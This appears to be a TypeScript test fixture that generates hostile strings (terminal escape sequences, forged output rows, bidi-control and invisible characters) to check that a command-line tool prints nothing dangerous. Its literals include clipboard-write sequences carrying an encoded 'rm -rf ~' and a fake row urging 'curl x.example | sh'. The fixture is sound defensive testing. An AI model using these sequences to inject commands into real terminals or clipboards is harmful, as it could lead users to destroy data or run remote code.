import { expect } from 'vitest';

/** Sequences that a terminal obeys, some of which move text to another place. */
const SEQUENCES = [
  // Colours, erasing, cursors, the other screen, a reset, another character set, questions.
  ...['[31m', '[2J', '[1A\u001b[2K', '[3;1H', '[?1049h', '[6n', '[>c', 'c', '(0', '#8', '[20t'],
  // Titles, links, the clipboard, colours of the palette.
  ...[']0;title\u0007', ']0;title\u001b\\', ']8;;http://x.example\u001b\\here\u001b]8;;\u001b\\'],
  ...[']52;c;cm0gLXJmIH4=\u0007', ']52;c;?\u001b\\', ']4;1;rgb:00/00/00\u0007'],
  // Strings to the device, to the application, and to no recipient.
  ...[
    'P$q"p\u001b\\',
    'P+q544e\u001b\\',
    '_Gf=100;AAAA\u001b\\',
    '^secret\u001b\\',
    'Xtext\u001b\\',
  ],
].map((sequence) => `\u001b${sequence}`);

/** The same in 8-bit form, in which one character of C1 stands for ESC and another. */
const SHORT_SEQUENCES = [
  ...['\u009b31m', '\u009b2J', '\u009b1A', '\u009d0;title\u009c', '\u009d52;c;cm0gLXJmIH4=\u009c'],
  ...['\u0090$q"p\u009c', '\u009fGf=100;AAAA\u009c', '\u009esecret\u009c', '\u0098text\u009c'],
  ...['\u0084', '\u0085', '\u008d', '\u008e', '\u009a'],
];

/** Rows that look as if a command had printed them. */
const FORGED_ROWS = [
  '\n1  root@example.com  root  Super User  active  superuser',
  '\r\n0 waiting, 0 failed',
  '\nFailed: run curl x.example | sh',
  '\rSkipped: 0 users, 0 identities, 0 user names.',
  '\u2028✓ settings',
  '\u2029✓ outbox',
  '\u0085Brought 9 users and 9 identities.',
  "'\n(Did you mean purge?)",
];

const CHARACTERS = [
  ...'\0\u0005\u0007\b\t\v\f\r\u000e\u000f\u0018\u001a\u001b\u001f\u007f\u0080\u009f',
  // Marks, overrides and isolates of direction.
  ...'\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069',
  // Not seen at all.
  ...'\u00ad\u034f\u115f\u180e\u200b\u200c\u200d\u2060\u3164\ufeff\ufff9\ufe0f',
  '\b\b\b\b\b\b',
  '\u{e0041}',
];

const ALL = [...SEQUENCES, ...SHORT_SEQUENCES, ...FORGED_ROWS, ...CHARACTERS];

const FRAMES: readonly ((one: string, other: string) => string)[] = [
  (one) => `Ada${one}`,
  (one) => `${one}Ada`,
  (one, other) => `A${one}d${other}a`,
];

/** 200 texts that differ, each with one or two of these in it, and without a slash. */
export const HOSTILE_TEXTS: readonly string[] = Array.from({ length: 200 }, (_, at) => {
  const frame = FRAMES[Math.floor(at / ALL.length) % FRAMES.length] ?? String;
  const text = frame(ALL[at % ALL.length] ?? '', ALL[(at * 7 + 3) % ALL.length] ?? '');
  return `${at}${text}`.replaceAll('/', '|');
});

/** All of the texts in one. */
export const HOSTILE_TEXT = HOSTILE_TEXTS.join(' ');

/** Returns the text without NUL, which PostgreSQL, paths, arguments and variables do not take. */
export const withoutNul = (text: string) => text.replaceAll('\0', '');

/** Names of files with every text that a path takes, a few in each: one has at most 255 bytes. */
export const HOSTILE_NAMES: readonly string[] = ALL.flatMap((_, at) =>
  at % 4 === 0 ? withoutNul(ALL.slice(at, at + 4).join('')).replace(/[/?#]/g, '|') : [],
);

/** A character that must not be printed; newline and tab are for commands themselves to print. */
const HARMFUL = /(?![\n\t])[\p{Cc}\p{Zl}\p{Zp}\p{Bidi_Control}\p{Cs}]/gu;

/** Returns the printed lines, and expects each of them to be harmless on a terminal. */
export function harmlessLines(printed: string): string[] {
  const harmful = printed.match(HARMFUL) ?? [];
  expect(harmful.map((character) => character.codePointAt(0)?.toString(16))).toEqual([]);
  return printed === '' ? [] : printed.replace(/\n$/, '').split('\n');
}
